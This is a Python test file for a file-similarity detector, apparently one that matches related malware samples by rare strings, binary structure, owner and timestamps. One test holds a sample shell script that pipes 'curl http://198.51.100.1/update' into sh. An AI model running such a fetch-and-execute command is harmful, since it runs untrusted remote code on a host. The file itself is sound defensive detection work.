import random
from datetime import UTC, datetime, timedelta

import pytest

from hemostat.detect.content.examples import noise
from hemostat.detect.likeness import (
    LIKE,
    Features,
    Likeness,
    features_of,
    likeness,
    may_be_like,
    pieces_of,
    rarity_of,
    tokens_of,
)
from hemostat.model.path import HostPath

THEN = datetime(2026, 3, 1, 12, tzinfo=UTC)
RUNTIME = [f"libruntime function number {n} failed" for n in range(60)]
OWN = [
    f"beacon {word} interval of the campaign" for word in ("red", "blue", "teal", "gold", "grey")
]


def program(texts: list[str], seed: int = 1) -> bytes:
    """A made-up program: texts, and code whose functions end as x86 ones do."""
    chance = random.Random(seed)
    code = b"".join(
        bytes(chance.randrange(1, 190) for _ in range(chance.randrange(20, 60))) + b"\xc3"
        for _ in range(200)
    )
    return b"\x7fELF\x02\x01\x01" + bytes(120) + code + b"\0".join(t.encode() for t in texts)


def compare(wanted: bytes, others: list[bytes]) -> list[Likeness]:
    one = features_of(wanted, HostPath("/a"), sha256="x")
    found = [features_of(each, HostPath(f"/{n}")) for n, each in enumerate(others)]
    rarity = rarity_of(one, [each.tokens & one.tokens for each in found])
    return [likeness(one, each, rarity) for each in found]


def test_a_sibling_with_other_code_is_told_by_the_texts_few_programs_hold() -> None:
    neighbours = [program([*RUNTIME, f"tool {n} usage of something"], n) for n in range(40)]
    sibling = program(OWN + RUNTIME[:30] + ["another host name entirely"], 99)
    found = compare(program(OWN + RUNTIME, 98), [sibling, *neighbours])
    assert found[0].score >= LIKE
    assert max(each.score for each in found[1:]) < LIKE
    assert found[0].shared[0].startswith("beacon")


def test_a_rebuilt_program_is_told_by_its_structure() -> None:
    wanted = program(OWN, 5)
    moved = wanted[:127] + bytes(64) + wanted[127:]
    (found,) = compare(wanted, [moved])
    assert found.structure > 0.7
    assert found.score >= LIKE


def test_unrelated_programs_are_not_alike() -> None:
    (found,) = compare(program(OWN, 1), [program(RUNTIME, 2)])
    assert found.score < 0.2


def test_texts_differ_in_numbers_and_blanks_only() -> None:
    one = b"#!/bin/sh\ncurl http://198.51.100.1/update | sh\nsleep 10\nrm -f /tmp/lock\n"
    two = b"#!/bin/sh\n  curl  http://198.51.100.29/update | sh\nsleep 99\nrm -f /tmp/lock\n"
    assert pieces_of(one, "script") == pieces_of(two, "script")


def test_the_same_content_is_the_same() -> None:
    wanted = features_of(b"abc", HostPath("/a"), sha256="one")
    other = features_of(b"abc", HostPath("/b"), sha256="one")
    found = likeness(wanted, other, rarity_of(wanted, []))
    assert (found.is_same, found.score) == (True, 1.0)


def test_owner_and_time_rank_what_is_alike_and_make_nothing_alike() -> None:
    content = program(OWN)
    wanted = features_of(content, HostPath("/a"), uid=33, modified=THEN)
    plain = features_of(content, HostPath("/b"))
    near = features_of(content, HostPath("/c"), uid=33, modified=THEN + timedelta(minutes=5))
    stranger = features_of(noise(9000), HostPath("/d"), uid=33, modified=THEN)
    rarity = rarity_of(wanted, [plain.tokens])
    assert likeness(wanted, near, rarity).score >= likeness(wanted, plain, rarity).score
    assert likeness(wanted, near, rarity).same_time
    assert likeness(wanted, stranger, rarity).score < 0.2


@pytest.mark.parametrize(
    ("size", "may"), [(10_000, True), (2_200, True), (1_000, False), (60_000, False)]
)
def test_only_files_of_like_size_are_read(size: int, *, may: bool) -> None:
    assert may_be_like(Features(path=HostPath("/a"), size=10_000, kind="elf"), size) is may


def test_texts_of_programs_are_runs_and_of_scripts_words() -> None:
    assert tokens_of(b"\0\1hello there\0ab", "elf") == {b"hello there"}
    assert tokens_of("echo 正在运行".encode(), "text") == {"正在运行".encode()}
